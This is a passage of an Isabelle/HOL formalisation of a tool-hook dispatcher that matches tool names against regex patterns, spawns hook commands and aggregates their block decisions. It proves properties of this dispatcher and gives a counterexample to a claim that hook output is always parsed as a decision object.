   (\<forall>p t regex. matcher hookMatcher = Some p \<and> p \<noteq> [] \<and> toolName = Some t \<and> t \<noteq> [] \<and>
        RegExp_new P p = Inr regex \<longrightarrow>
      matchesPattern P hookMatcher toolName = Inr (RegExp_test P regex t)) \<and>
   (\<forall>p t e. matcher hookMatcher = Some p \<and> p \<noteq> [] \<and> toolName = Some t \<and> t \<noteq> [] \<and>
        RegExp_new P p = Inl e \<longrightarrow>
      matchesPattern P hookMatcher toolName = Inr (p = t))"
  by (auto simp: matchesPattern_def falsy_str_def try_catch_def and_then_def
      split: option.splits sum.splits)

text \<open>
  With the concrete engine: no pattern, no tool name, a pattern that matches, one that
  does not, and the pattern \<open>(\<close>, which does not compile and matches only itself.
\<close>

theorem matchesPattern_policy_witness:
  "matchesPattern node \<lparr> matcher = None, hooks = [] \<rparr> None = Inr True \<and>
   matchesPattern node \<lparr> matcher = Some ''Bash'', hooks = [] \<rparr> None = Inr False \<and>
   matchesPattern node \<lparr> matcher = Some ''Edit|Write'', hooks = [] \<rparr> (Some ''Write'') = Inr True \<and>
   matchesPattern node \<lparr> matcher = Some ''Edit|Write'', hooks = [] \<rparr> (Some ''Bash'') = Inr False \<and>
   matchesPattern node \<lparr> matcher = Some ''('', hooks = [] \<rparr> (Some ''('') = Inr True \<and>
   matchesPattern node \<lparr> matcher = Some ''('', hooks = [] \<rparr> (Some ''Bash'') = Inr False"
proof -
  have "fragment_RegExp_new ''Edit|Write'' = Inr (RAlt (literal ''Edit'') (literal ''Write''))"
    by code_simp
  then have new1: "RegExp_new node ''Edit|Write'' = Inr (RAlt (literal ''Edit'') (literal ''Write''))"
    by (simp add: node_def)
  have "fragment_RegExp_new ''('' = Inl (SyntaxError ''Invalid regular expression'')"
    by code_simp
  then have new2: "RegExp_new node ''('' = Inl (SyntaxError ''Invalid regular expression'')"
    by (simp add: node_def)
  have "fragment_RegExp_test (RAlt (literal ''Edit'') (literal ''Write'')) ''Write''"
    by code_simp
  then have t1: "RegExp_test node (RAlt (literal ''Edit'') (literal ''Write'')) ''Write''"
    by (simp add: node_def)
  have "\<not> fragment_RegExp_test (RAlt (literal ''Edit'') (literal ''Write'')) ''Bash''"
    by code_simp
  then have t2: "\<not> RegExp_test node (RAlt (literal ''Edit'') (literal ''Write'')) ''Bash''"
    by (simp add: node_def)
  show ?thesis
    using matchesPattern_policy [of node "\<lparr> matcher = None, hooks = [] \<rparr>" None]
      matchesPattern_policy [of node "\<lparr> matcher = Some ''Bash'', hooks = [] \<rparr>" None]
      matchesPattern_policy [of node "\<lparr> matcher = Some ''Edit|Write'', hooks = [] \<rparr>"
        "Some ''Write''"]
      matchesPattern_policy [of node "\<lparr> matcher = Some ''Edit|Write'', hooks = [] \<rparr>"
        "Some ''Bash''"]
      matchesPattern_policy [of node "\<lparr> matcher = Some ''('', hooks = [] \<rparr>" "Some ''(''"]
      matchesPattern_policy [of node "\<lparr> matcher = Some ''('', hooks = [] \<rparr>" "Some ''Bash''"]
      new1 new2 t1 t2
    by simp
qed

subsection \<open>The close handler\<close>

lemma trim_Nil: "trim [] = []"
  by (simp add: trim_def)

lemma trim_trim: "trim (trim s) = trim s"
proof -
  define a where "a = dropWhile is_js_space s"
  define b where "b = rev (dropWhile is_js_space (rev a))"
  have b_trim: "trim s = b" by (simp add: trim_def a_def b_def)
  have "a = rev (takeWhile is_js_space (rev a) @ dropWhile is_js_space (rev a))"
    by (simp only: takeWhile_dropWhile_id rev_rev_ident)
  then have a_split: "a = b @ rev (takeWhile is_js_space (rev a))"
    by (simp only: rev_append b_def)
  have front: "dropWhile is_js_space b = b"
  proof (cases b)
    case Nil
    then show ?thesis by simp
  next
    case (Cons x b')
    have a1: "a = (x # b') @ rev (takeWhile is_js_space (rev a))"
      using a_split Cons by simp
    have "a \<noteq> []"
      using a1 by (metis Nil_is_append_conv list.distinct(1))
    moreover have "hd a = x"
      using a1 by (metis hd_append2 list.distinct(1) list.sel(1))
    ultimately have "\<not> is_js_space x"
      unfolding a_def using hd_dropWhile by metis
    with Cons show ?thesis by simp
  qed
  have rear: "dropWhile is_js_space (rev b) = rev b"
    by (simp add: b_def)
  show ?thesis
    unfolding b_trim by (simp add: trim_def front rear)
qed

lemma parse_stdout_total: "\<exists>j. parse_stdout P out = Inr j"
  by (auto simp: parse_stdout_def try_catch_def and_then_def split: sum.splits)

lemma parse_stdout_trim: "parse_stdout P (trim out) = parse_stdout P out"
  by (simp add: parse_stdout_def trim_trim)

lemma package_result_total:
  "\<exists>r. package_result P code out err timed_out failure = Inr r \<and> timedOut r = timed_out"
  using parse_stdout_total [of P out]
  by (auto simp: package_result_def and_then_def)

lemma package_result_packaged:
  "package_result P code out err t f = Inr r \<Longrightarrow> packaged P r"
  using parse_stdout_total [of P out]
  by (auto simp: package_result_def and_then_def packaged_def parse_stdout_trim trim_trim)

subsection \<open>What a run resolves with\<close>

text \<open>
  The timers never touch the promise. Once \<open>spawn\<close> has returned a child, only the close
  handler settles it, and it resolves it: with the result packaged from what the child
  wrote before it closed.
\<close>

lemma resolved_child_kill: "resolved (child_kill t sig st) = resolved st"
  by (simp add: child_kill_def)

lemma resolved_on_timeout: "resolved (on_timeout t st) = resolved st"
  by (simp add: on_timeout_def resolved_child_kill)

lemma resolved_on_grace: "resolved (on_grace t st) = resolved st"
  by (simp add: on_grace_def Let_def resolved_child_kill)

lemma resolved_fire_due: "resolved (fire_due t st) = resolved st"
  by (simp add: fire_due_def Let_def resolved_on_timeout resolved_on_grace split: option.splits)

lemma resolved_drain: "resolved (drain st) = resolved st"
  by (simp add: drain_def Let_def resolved_on_timeout resolved_on_grace split: option.splits)

lemma resolved_on_event:
  "resolved (on_event P ev st) = Some r \<Longrightarrow> resolved st = None \<Longrightarrow> packaged P r"
  by (cases ev) (auto simp: on_close_def Let_def split: sum.splits dest: package_result_packaged)

lemma uncaught_on_close: "uncaught st = None \<Longrightarrow> uncaught (on_close P code st) = None"
  using package_result_total [of P code "var_stdout st" "var_stderr st" "var_timedOut st"
      "var_error st"]
  by (auto simp: on_close_def Let_def)

lemma resolved_on_event_other:
  "\<not> is_Close ev \<Longrightarrow> resolved (on_event P ev st) = resolved st"
  by (cases ev) auto

lemma event_loop_packaged:
  "resolved st = None \<Longrightarrow> resolved (event_loop P trace st) = Some r \<Longrightarrow> packaged P r"
proof (induction trace arbitrary: st)
  case Nil
  then show ?case by (simp add: resolved_drain)
next
  case (Cons e trace)
  obtain t ev where e: "e = (t, ev)" by (cases e)
  show ?case
  proof (cases "is_Close ev")
    case True
    with Cons.prems e have "resolved (on_event P ev (fire_due t st)) = Some r"
      by (simp add: Let_def resolved_drain split: if_splits)
    moreover have "resolved (fire_due t st) = None"
      using Cons.prems(1) by (simp add: resolved_fire_due)
    ultimately show ?thesis by (rule resolved_on_event)
  next
    case False
    then have none: "resolved (on_event P ev (fire_due t st)) = None"
      using Cons.prems(1) by (simp add: resolved_on_event_other resolved_fire_due)
    then have "resolved (event_loop P trace (on_event P ev (fire_due t st))) = Some r"
      using Cons.prems(2) e False by (simp add: Let_def split: if_splits)
    with none show ?thesis by (rule Cons.IH)
  qed
qed

lemma resolved_spawn_threw: "resolved (spawn_threw e) = None"
  by (simp add: spawn_threw_def)

lemma executeCommand_packaged:
  assumes "resolved (executeCommand P c eventData trace) = Some r"
  shows "packaged P r"
proof (cases "spawn_check (command c) (cwd eventData)")
  case None
  then have "executeCommand P c eventData trace = event_loop P trace (spawned c eventData)"
    by (simp add: executeCommand_def promise_executor_def spawned_def)
  with assms have "resolved (event_loop P trace (spawned c eventData)) = Some r"
    by simp
  moreover have "resolved (spawned c eventData) = None"
    by (simp add: spawned_def)
  ultimately show ?thesis
    using event_loop_packaged by blast
next
  case (Some e)
  then have "executeCommand P c eventData trace = spawn_threw e"
    by (simp add: executeCommand_def promise_executor_def spawn_threw_def)
  with assms show ?thesis
    by (simp add: resolved_spawn_threw)
qed

text \<open>
  A promise is settled at most once, and not at all in a run that an uncaught exception
  ends: a run that resolves was not rejected and left no exception uncaught.
\<close>

lemma rejected_keeps:
  "rejected (child_kill t sig st) = rejected st"
  "rejected (on_timeout t st) = rejected st"
  "rejected (on_grace t st) = rejected st"
  "rejected (fire_due t st) = rejected st"
  "rejected (drain st) = rejected st"
  "rejected (on_event P ev st) = rejected st"
proof -
  show k: "rejected (child_kill t sig st) = rejected st" for t sig st
    by (simp add: child_kill_def)
  show a: "rejected (on_timeout t st) = rejected st" for t st
    by (simp add: on_timeout_def k)
  show b: "rejected (on_grace t st) = rejected st" for t st
    by (simp add: on_grace_def Let_def k)
  show "rejected (fire_due t st) = rejected st"
    by (simp add: fire_due_def Let_def a b split: option.splits)
  show "rejected (drain st) = rejected st"
    by (simp add: drain_def Let_def a b split: option.splits)
  show "rejected (on_event P ev st) = rejected st"
    by (cases ev) (simp_all add: on_close_def Let_def split: sum.splits)
qed

lemma rejected_event_loop: "rejected (event_loop P trace st) = rejected st"
proof (induction trace arbitrary: st)
  case Nil
  then show ?case by (simp add: rejected_keeps)
next
  case (Cons e trace)
  obtain t ev where e: "e = (t, ev)" by (cases e)
  show ?case
    using Cons.IH by (simp add: e Let_def rejected_keeps)
qed

lemma uncaught_keeps:
  "uncaught (child_kill t sig st) = uncaught st"
  "uncaught (on_timeout t st) = uncaught st"
  "uncaught (on_grace t st) = uncaught st"
  "uncaught (fire_due t st) = uncaught st"
  "uncaught (drain st) = uncaught st"
proof -
  show k: "uncaught (child_kill t sig st) = uncaught st" for t sig st
    by (simp add: child_kill_def)
  show a: "uncaught (on_timeout t st) = uncaught st" for t st
    by (simp add: on_timeout_def k)
  show b: "uncaught (on_grace t st) = uncaught st" for t st
    by (simp add: on_grace_def Let_def k)
  show "uncaught (fire_due t st) = uncaught st"
    by (simp add: fire_due_def Let_def a b split: option.splits)
  show "uncaught (drain st) = uncaught st"
    by (simp add: drain_def Let_def a b split: option.splits)
qed

lemma event_loop_settles_once:
  "resolved (event_loop P trace st) = Some r \<Longrightarrow> resolved st = None \<Longrightarrow> uncaught st = None \<Longrightarrow>
   uncaught (event_loop P trace st) = None"
proof (induction trace arbitrary: st)
  case Nil
  then show ?case by (simp add: resolved_drain)
next
  case (Cons e trace)
  obtain t ev where e: "e = (t, ev)" by (cases e)
  define st' where "st' = on_event P ev (fire_due t st)"
  have quiet: "uncaught (fire_due t st) = None" "resolved (fire_due t st) = None"
    using Cons.prems(2,3) by (simp_all add: uncaught_keeps resolved_fire_due)
  show ?case
  proof (cases "is_Close ev")
    case True
    then obtain code where ev: "ev = Close code" by (cases ev) auto
    have "uncaught st' = None"
      using quiet(1) by (simp add: st'_def ev uncaught_on_close)
    then show ?thesis
      using True by (simp add: e st'_def [symmetric] Let_def uncaught_keeps)
  next
    case False
    then have none: "resolved st' = None"
      using quiet(2) by (simp add: st'_def resolved_on_event_other)
    show ?thesis
    proof (cases "uncaught st' = None")
      case True
      then have "resolved (event_loop P trace st') = Some r"
        using Cons.prems(1) False by (simp add: e st'_def [symmetric] Let_def)
      then have "uncaught (event_loop P trace st') = None"
        using none True by (rule Cons.IH)
      then show ?thesis
        using True False by (simp add: e st'_def [symmetric] Let_def)
    next
      case stopped: False
      then have "event_loop P (e # trace) st = st'"
        by (simp add: e st'_def [symmetric] Let_def)
      with Cons.prems(1) none show ?thesis by simp
    qed
  qed
qed

lemma executeCommand_settles_once:
  assumes "resolved (executeCommand P c eventData trace) = Some r"
  shows "rejected (executeCommand P c eventData trace) = None \<and>
         uncaught (executeCommand P c eventData trace) = None"
proof (cases "spawn_check (command c) (cwd eventData)")
  case None
  then have run: "executeCommand P c eventData trace = event_loop P trace (spawned c eventData)"
    by (simp add: executeCommand_def promise_executor_def spawned_def)
  have "rejected (event_loop P trace (spawned c eventData)) = None"
    by (simp add: rejected_event_loop spawned_def)
  moreover have "uncaught (event_loop P trace (spawned c eventData)) = None"
    using assms unfolding run
    by (rule event_loop_settles_once) (simp_all add: spawned_def)
  ultimately show ?thesis
    unfolding run by simp
next
  case (Some e)
  then have "executeCommand P c eventData trace = spawn_threw e"
    by (simp add: executeCommand_def promise_executor_def spawn_threw_def)
  with assms show ?thesis
    by (simp add: resolved_spawn_threw)
qed

lemma fire_due_keeps:
  "resolved (fire_due t st) = resolved st \<and> uncaught (fire_due t st) = uncaught st \<and>
   var_stdout (fire_due t st) = var_stdout st \<and> var_stderr (fire_due t st) = var_stderr st"
  by (simp add: fire_due_def Let_def on_timeout_def on_grace_def child_kill_def
      split: option.splits)

lemma on_close_resolves:
  assumes "uncaught st = None"
  shows "\<exists>r. resolved (on_close P code st) = Some r \<and> uncaught (on_close P code st) = None \<and>
             package_result P code (var_stdout st) (var_stderr st) (timedOut r) (error r) = Inr r"
proof -
  obtain r where r: "package_result P code (var_stdout st) (var_stderr st) (var_timedOut st)
      (var_error st) = Inr r" and t: "timedOut r = var_timedOut st"
    using package_result_total by blast
  have "error r = var_error st"
    using r by (auto simp: package_result_def and_then_def split: sum.splits)
  with r t assms show ?thesis
    by (simp add: on_close_def Let_def)
qed

lemma event_loop_closes:
  assumes "uncaught st = None"
    and "\<forall>e\<in>set before. \<not> is_Close (snd e) \<and> \<not> is_Stream_error (snd e)"
  shows "\<exists>r. resolved (event_loop P (before @ (t, Close code) # rest) st) = Some r \<and>
             uncaught (event_loop P (before @ (t, Close code) # rest) st) = None \<and>
             package_result P code (var_stdout st @ stdout_written before)
               (var_stderr st @ stderr_written before) (timedOut r) (error r) = Inr r"
  using assms
proof (induction before arbitrary: st)
  case Nil
  have "uncaught (fire_due t st) = None"
    using Nil.prems(1) by (simp add: fire_due_keeps)
  then show ?case
    using on_close_resolves [of "fire_due t st" P code]
    by (auto simp: Let_def resolved_drain uncaught_keeps fire_due_keeps)
next
  case (Cons e before)
  obtain u ev where e: "e = (u, ev)" by (cases e)
  with Cons.prems(2) have nc: "\<not> is_Close ev" and ns: "\<not> is_Stream_error ev" by simp_all
  define st' where "st' = on_event P ev (fire_due u st)"
  have unc: "uncaught st' = None"
    using Cons.prems(1) nc ns by (cases ev) (simp_all add: st'_def fire_due_keeps)
  have out: "var_stdout st' @ stdout_written before = var_stdout st @ stdout_written (e # before)"
    using nc by (cases ev) (simp_all add: st'_def fire_due_keeps e)
  have err: "var_stderr st' @ stderr_written before = var_stderr st @ stderr_written (e # before)"
    using nc by (cases ev) (simp_all add: st'_def fire_due_keeps e)
  have loop: "event_loop P ((e # before) @ (t, Close code) # rest) st =
      event_loop P (before @ (t, Close code) # rest) st'"
    using nc unc by (simp add: e st'_def [symmetric] Let_def)
  show ?case
    using Cons.IH [of st'] unc Cons.prems(2) unfolding loop out err by simp
qed

lemma executeCommand_closes:
  assumes "spawn_check (command c) (cwd eventData) = None"
    and "\<forall>e\<in>set before. \<not> is_Close (snd e) \<and> \<not> is_Stream_error (snd e)"
  shows "\<exists>r. resolved (executeCommand P c eventData (before @ (t, Close code) # rest)) = Some r \<and>
             rejected (executeCommand P c eventData (before @ (t, Close code) # rest)) = None \<and>
             uncaught (executeCommand P c eventData (before @ (t, Close code) # rest)) = None \<and>
             package_result P code (stdout_written before) (stderr_written before)
               (timedOut r) (error r) = Inr r"
proof -
  have run: "executeCommand P c eventData trace = event_loop P trace (spawned c eventData)"
    for trace
    using assms(1) by (simp add: executeCommand_def promise_executor_def spawned_def)
  have "rejected (event_loop P (before @ (t, Close code) # rest) (spawned c eventData)) = None"
    by (simp add: rejected_event_loop spawned_def)
  then show ?thesis
    using event_loop_closes [of "spawned c eventData" before P t code rest] assms(2)
    unfolding run by (simp add: spawned_def)
qed

subsection \<open>The aggregation loop\<close>

lemma get_prop_falsy: "\<not> truthy j \<Longrightarrow> get_prop j k = None"
  by (cases j) auto

lemma results_process_result: "results (process_result acc r) = results acc"
  by (simp add: process_result_def process_stdout_def process_json_def process_exit_def Let_def
      split: option.splits)

lemma results_foldl: "results (foldl process_result acc rs) = results acc"
  by (induction rs arbitrary: acc) (simp_all add: results_process_result)

lemma results_aggregate: "results (aggregate rs) = rs"
  by (simp add: aggregate_def results_foldl)

lemma shouldBlock_process_result:
  "shouldBlock (process_result acc r) = (shouldBlock acc \<or> exit_blocks r \<or> decision_blocks r)"
  by (auto simp: process_result_def process_stdout_def process_json_def process_exit_def Let_def
      exit_blocks_def decision_blocks_def get_prop_falsy split: option.splits)

lemma blockReason_process_result:
  "blockReason (process_result acc r) =
     (if decision_blocks r then Option.bind (jsonOutput r) (\<lambda>j. get_prop j ''reason'')
      else if exit_blocks r then Some (JStr (stderr r))
      else blockReason acc)"
  by (auto simp: process_result_def process_stdout_def process_json_def process_exit_def Let_def
      exit_blocks_def decision_blocks_def get_prop_falsy split: option.splits)

lemma shouldBlock_foldl:
  "shouldBlock (foldl process_result acc rs) =
     (shouldBlock acc \<or> (\<exists>r\<in>set rs. exit_blocks r \<or> decision_blocks r))"
  by (induction rs arbitrary: acc) (auto simp: shouldBlock_process_result)

lemma blockReason_foldl_quiet:
  "\<forall>r\<in>set rs. \<not> exit_blocks r \<and> \<not> decision_blocks r \<Longrightarrow>
   blockReason (foldl process_result acc rs) = blockReason acc"
  by (induction rs arbitrary: acc) (simp_all add: blockReason_process_result)

lemma shouldBlock_aggregate:
  "shouldBlock (aggregate rs) = (\<exists>r\<in>set rs. exit_blocks r \<or> decision_blocks r)"
  by (simp add: aggregate_def shouldBlock_foldl)

lemma blockReason_aggregate_last:
  "\<not> decision_blocks r \<Longrightarrow> exit_blocks r \<Longrightarrow>
   \<forall>r'\<in>set post. \<not> exit_blocks r' \<and> \<not> decision_blocks r' \<Longrightarrow>
   blockReason (aggregate (pre @ r # post)) = Some (JStr (stderr r))"
  by (simp add: aggregate_def blockReason_foldl_quiet blockReason_process_result)

subsection \<open>The dispatch\<close>

lemma Promise_all_Some: "Promise_all ps = Some rs \<Longrightarrow> ps = map Some rs"
  by (induction ps arbitrary: rs rule: Promise_all.induct) auto

lemma executeHooks_Resolved:
  assumes "executeHooks P children eventName eventData hookConfig toolName = Resolved R"
  shows "R = aggregate (results R) \<and> (\<forall>r\<in>set (results R). packaged P r)"
proof -
  from assms obtain commands rs where
    rs: "Promise_all (map resolved (map (\<lambda>(i, c). executeCommand P c eventData (children i))
           (enumerate 0 commands))) = Some rs"
    and R: "R = aggregate rs"
    by (auto simp: executeHooks_def Let_def split: sum.splits option.splits if_splits)
  have "map resolved (map (\<lambda>(i, c). executeCommand P c eventData (children i))
           (enumerate 0 commands)) = map Some rs"
    using rs by (rule Promise_all_Some)
  then have "map (\<lambda>(i, c). resolved (executeCommand P c eventData (children i)))
           (enumerate 0 commands) = map Some rs"
    by (simp add: case_prod_unfold comp_def)
  then have "\<forall>r\<in>set rs. \<exists>i c. resolved (executeCommand P c eventData (children i)) = Some r"
    by (metis (no_types, lifting) ext case_prod_conv imageE image_eqI list.set_map old.prod.exhaust)
  then have "\<forall>r\<in>set rs. packaged P r"
    by (auto dest: executeCommand_packaged)
  with R show ?thesis by (simp add: results_aggregate)
qed

lemma matchesPattern_total: "\<exists>b. matchesPattern P hookMatcher toolName = Inr b"
  by (auto simp: matchesPattern_def try_catch_def and_then_def split: sum.splits)

lemma filter_throwing_matchesPattern:
  "filter_throwing (\<lambda>hm. matchesPattern P hm toolName) ms =
     Inr (filter (\<lambda>hm. matchesPattern P hm toolName = Inr True) ms)"
proof (induction ms)
  case Nil
  then show ?case by simp
next
  case (Cons hm ms)
  obtain b where "matchesPattern P hm toolName = Inr b"
    using matchesPattern_total by blast
  with Cons show ?case by (cases b) (simp_all add: and_then_def)
qed

lemma selected_commands_eq:
  "selected_commands P hookConfig eventName toolName =
     Inr (concat (map hooks (filter (\<lambda>hm. matchesPattern P hm toolName = Inr True)
            (case hookConfig eventName of None \<Rightarrow> [] | Some ms \<Rightarrow> ms))))"
  by (simp add: selected_commands_def Let_def filter_throwing_matchesPattern and_then_def)

lemma executeHooks_no_commands:
  "selected_commands P hookConfig eventName toolName = Inr [] \<Longrightarrow>
   executeHooks P children eventName eventData hookConfig toolName = Resolved no_results"
  by (simp add: executeHooks_def first_rejected_def aggregate_def no_results_def)

lemma executeHooks_single:
  assumes "selected_commands P hookConfig eventName toolName = Inr [c]"
    and "resolved (executeCommand P c eventData (children 0)) = Some r"
  shows "executeHooks P children eventName eventData hookConfig toolName = Resolved (aggregate [r])"
  using assms executeCommand_settles_once [OF assms(2)]
  by (simp add: executeHooks_def first_rejected_def)

text \<open>
  A dispatch with one command ends with the process when the run of that command ends
  in an uncaught exception, and is rejected when \<open>spawn\<close> refuses the command.
\<close>

lemma executeHooks_single_uncaught:
  assumes "selected_commands P hookConfig eventName toolName = Inr [c]"
    and "rejected (executeCommand P c eventData (children 0)) = None"
    and "uncaught (executeCommand P c eventData (children 0)) = Some e"
  shows "executeHooks P children eventName eventData hookConfig toolName = Crashed"
  using assms by (simp add: executeHooks_def first_rejected_def)

lemma executeHooks_single_rejected:
  assumes "selected_commands P hookConfig eventName toolName = Inr [c]"
    and "rejected (executeCommand P c eventData (children 0)) = Some e"
  shows "executeHooks P children eventName eventData hookConfig toolName = Rejected e"
  using assms by (simp add: executeHooks_def first_rejected_def)

subsection \<open>The scenarios, run\<close>

lemmas run_defs = executeCommand_def promise_executor_def spawn_check_def spawned_def
  fire_due_def on_close_def drain_def
  on_timeout_def on_grace_def child_kill_def package_result_def parse_stdout_def try_catch_def
  and_then_def timeoutMs_def timeoutSeconds_def DEFAULT_TIMEOUT_def setTimeout_delay_def Let_def
  sample_event_def

lemmas aggregate_defs = aggregate_def process_result_def process_stdout_def process_json_def
  process_exit_def

lemma RegExp_Bash: "RegExp_new node ''Bash'' = Inr (literal ''Bash'')"
proof -
  have "fragment_RegExp_new ''Bash'' = Inr (literal ''Bash'')"
    by code_simp
  then show ?thesis by (simp add: node_def)
qed

lemma RegExp_test_node: "RegExp_test node = fragment_RegExp_test"
  by (simp add: node_def)

lemma RegExp_Bash_test:
  "RegExp_test node (literal ''Bash'') ''Bash''" "\<not> RegExp_test node (literal ''Bash'') ''Edit''"
proof -
  have "fragment_RegExp_test (literal ''Bash'') ''Bash''"
    by code_simp
  then show "RegExp_test node (literal ''Bash'') ''Bash''"
    unfolding RegExp_test_node .
  have "\<not> fragment_RegExp_test (literal ''Bash'') ''Edit''"
    by code_simp
  then show "\<not> RegExp_test node (literal ''Bash'') ''Edit''"
    unfolding RegExp_test_node .
qed

lemma bash_config_Bash:
  "matchesPattern node \<lparr> matcher = Some ''Bash'', hooks = cs \<rparr> (Some ''Bash'') = Inr True"
  by (simp add: matchesPattern_def falsy_str_def try_catch_def and_then_def RegExp_Bash
      RegExp_Bash_test del: literal.simps)

lemma bash_config_selected:
  "selected_commands node (bash_config cs) PreToolUse (Some ''Bash'') = Inr cs"
  by (simp add: selected_commands_def bash_config_def bash_config_Bash and_then_def)

lemma bash_config_Edit:
  "matchesPattern node \<lparr> matcher = Some ''Bash'', hooks = cs \<rparr> (Some ''Edit'') = Inr False"
  by (simp add: matchesPattern_def falsy_str_def try_catch_def and_then_def RegExp_Bash
      RegExp_Bash_test del: literal.simps)

lemma scenario_B_run:
  "resolved (executeCommand node scenario_B_command sample_event scenario_B_trace) =
     Some scenario_B_result"
  by (simp add: run_defs scenario_B_command_def scenario_B_trace_def scenario_B_result_def
      trim_def is_js_space_def)

lemma scenario_B_aggregate: "aggregate [scenario_B_result] = scenario_B_dispatch"
  by (simp add: aggregate_defs scenario_B_result_def scenario_B_dispatch_def)

lemma scenario_B_executeHooks:
  "executeHooks node (\<lambda>i. scenario_B_trace) PreToolUse sample_event
     (bash_config [scenario_B_command]) (Some ''Bash'') = Resolved scenario_B_dispatch"
  using executeHooks_single [OF bash_config_selected, of scenario_B_command sample_event
      "\<lambda>i. scenario_B_trace" scenario_B_result]
  by (simp add: scenario_B_run scenario_B_aggregate)

lemma json_parse_override:
  "json_parse override_stdout = Inr (JObj [(''decision'', JStr ''block''), (''reason'', JStr ''nope'')])"
  unfolding override_stdout_def by code_simp

lemma trim_override: "trim override_stdout = override_stdout"
  by (simp add: trim_def override_stdout_def is_js_space_def)

lemma override_nonempty: "override_stdout \<noteq> []"
  by (simp add: override_stdout_def)

lemma override_run:
  "resolved (executeCommand node override_command sample_event override_trace) =
     Some override_result"
  by (simp add: run_defs override_command_def override_trace_def override_result_def
      trim_override override_nonempty json_parse_override node_def)
    (simp add: trim_def is_js_space_def)

lemma override_aggregate: "aggregate [override_result] = override_dispatch"
  by (simp add: aggregate_defs override_result_def override_dispatch_def override_nonempty)

lemma json_parse_scenario_D:
  "json_parse scenario_D_stdout =
     Inr (JObj [(''decision'', JStr ''block''), (''reason'', JStr ''nope''),
                (''continue'', JBool False), (''stopReason'', JStr ''policy'')])"
  unfolding scenario_D_stdout_def by code_simp

lemma trim_scenario_D: "trim scenario_D_stdout = scenario_D_stdout"
  by (simp add: trim_def scenario_D_stdout_def is_js_space_def)

lemma scenario_D_nonempty: "scenario_D_stdout \<noteq> []"
  by (simp add: scenario_D_stdout_def)

lemma scenario_D_run:
  "resolved (executeCommand node scenario_D_command sample_event scenario_D_trace) =
     Some scenario_D_result"
  by (simp add: run_defs scenario_D_command_def scenario_D_trace_def scenario_D_result_def
      trim_scenario_D scenario_D_nonempty json_parse_scenario_D node_def scenario_D_json_def)
    (simp add: trim_def)

lemma scenario_D_aggregate: "aggregate [scenario_D_result] = scenario_D_dispatch"
  by (simp add: aggregate_defs scenario_D_result_def scenario_D_dispatch_def scenario_D_nonempty
      scenario_D_json_def)

lemma scenario_D_executeHooks:
  "executeHooks node (\<lambda>i. scenario_D_trace) PreToolUse sample_event
     (bash_config [scenario_D_command]) (Some ''Bash'') = Resolved scenario_D_dispatch"
  using executeHooks_single [OF bash_config_selected, of scenario_D_command sample_event
      "\<lambda>i. scenario_D_trace" scenario_D_result]
  by (simp add: scenario_D_run scenario_D_aggregate)

lemma json_parse_plain:
  "json_parse ''Hook executed for Bash tool'' = Inl (SyntaxError ''Unexpected token in JSON'')"
  by code_simp

lemma trim_plain: "trim plain_stdout = ''Hook executed for Bash tool''"
  by (simp add: trim_def plain_stdout_def is_js_space_def)

lemma plain_package:
  "package_result node (Some 0) plain_stdout [] False None = Inr plain_result"
  by (simp add: package_result_def parse_stdout_def try_catch_def and_then_def trim_plain
      trim_Nil node_def json_parse_plain plain_result_def)

lemma plain_run:
  "resolved (executeCommand node plain_command sample_event plain_trace) = Some plain_result"
  by (simp add: run_defs plain_command_def plain_trace_def plain_result_def trim_plain
      json_parse_plain node_def)
    (simp add: trim_def)

lemma plain_aggregate:
  "contextToAdd (aggregate [plain_result]) = [JStr ''Hook executed for Bash tool'']"
  by (simp add: aggregate_defs plain_result_def)

lemma count_selected:
  "selected_commands node count_config PreToolUse (Some ''Edit'') = Inr [count_command]"
proof -
  have "fragment_RegExp_new ''(Edit|Write|MultiEdit)'' =
      Inr (RSeq (RAlt (literal ''Edit'') (RAlt (literal ''Write'') (literal ''MultiEdit''))) REps)"
    by code_simp
  moreover have "fragment_RegExp_test
      (RSeq (RAlt (literal ''Edit'') (RAlt (literal ''Write'') (literal ''MultiEdit''))) REps)
      ''Edit''"
    by code_simp
  ultimately have "matchesPattern node
      \<lparr> matcher = Some ''(Edit|Write|MultiEdit)'', hooks = [count_command] \<rparr> (Some ''Edit'') =
      Inr True"
    by (simp add: matchesPattern_def falsy_str_def try_catch_def and_then_def node_def)
  then show ?thesis
    by (simp add: selected_commands_def count_config_def and_then_def)
qed

lemma json_parse_count: "json_parse ''3'' = Inr (JNum 3)"
  by code_simp

lemma trim_count: "trim count_stdout = ''3''"
  by (simp add: trim_def count_stdout_def is_js_space_def)

lemma count_run:
  "resolved (executeCommand node count_command sample_event count_trace) = Some count_result"
  by (simp add: run_defs count_command_def count_trace_def count_result_def trim_count
      json_parse_count node_def)
    (simp add: trim_def)

lemma count_aggregate: "aggregate [count_result] = count_dispatch"
  by (simp add: aggregate_defs count_result_def count_dispatch_def)

lemma count_executeHooks:
  "executeHooks node (\<lambda>i. count_trace) PreToolUse sample_event count_config (Some ''Edit'') =
     Resolved count_dispatch"
  using executeHooks_single [OF count_selected, of sample_event "\<lambda>i. count_trace" count_result]
  by (simp add: count_run count_aggregate)

text \<open>
  The exception that a run can leave uncaught: when \<open>child.stdin\<close> emits \<open>error\<close>, the
  promise is never settled, and the dispatch ends with the process.
\<close>

lemma deaf_run:
  "resolved (executeCommand P deaf_command sample_event deaf_trace) = None \<and>
   rejected (executeCommand P deaf_command sample_event deaf_trace) = None \<and>
   uncaught (executeCommand P deaf_command sample_event deaf_trace) = Some (Error ''write EPIPE'')"
  by (simp add: run_defs deaf_command_def deaf_trace_def)

lemma deaf_executeHooks:
  "executeHooks node (\<lambda>i. deaf_trace) PreToolUse sample_event
     (bash_config [deaf_command]) (Some ''Bash'') = Crashed"
  using executeHooks_single_uncaught [OF bash_config_selected, of deaf_command sample_event
      "\<lambda>i. deaf_trace" "Error ''write EPIPE''"] deaf_run [of node]
  by simp

subsection \<open>Standard output that is not JSON\<close>

text \<open>
  Claim C8, as stated, fails: the standard output is not parsed as a JSON object of the
  shape of a \<open>StructuredDecision\<close>. The hook of the repository's example configuration
  that counts files writes \<open>3\<close>; the text parses, to a number, and the number is the
  structured output of the result.
\<close>

theorem stdout_number_counterexample:
  "executeHooks node (\<lambda>i. count_trace) PreToolUse sample_event count_config (Some ''Edit'') =
     Resolved count_dispatch \<and>
   results count_dispatch = [count_result] \<and>
   stdout count_result = ''3'' \<and>
   jsonOutput count_result = Some (JNum 3) \<and>
   \<not> is_JObj (JNum 3) \<and>
   \<not> StructuredDecision_shape (JNum 3)"
  using count_executeHooks
  by (simp add: count_dispatch_def count_result_def StructuredDecision_shape_def)

text \<open>
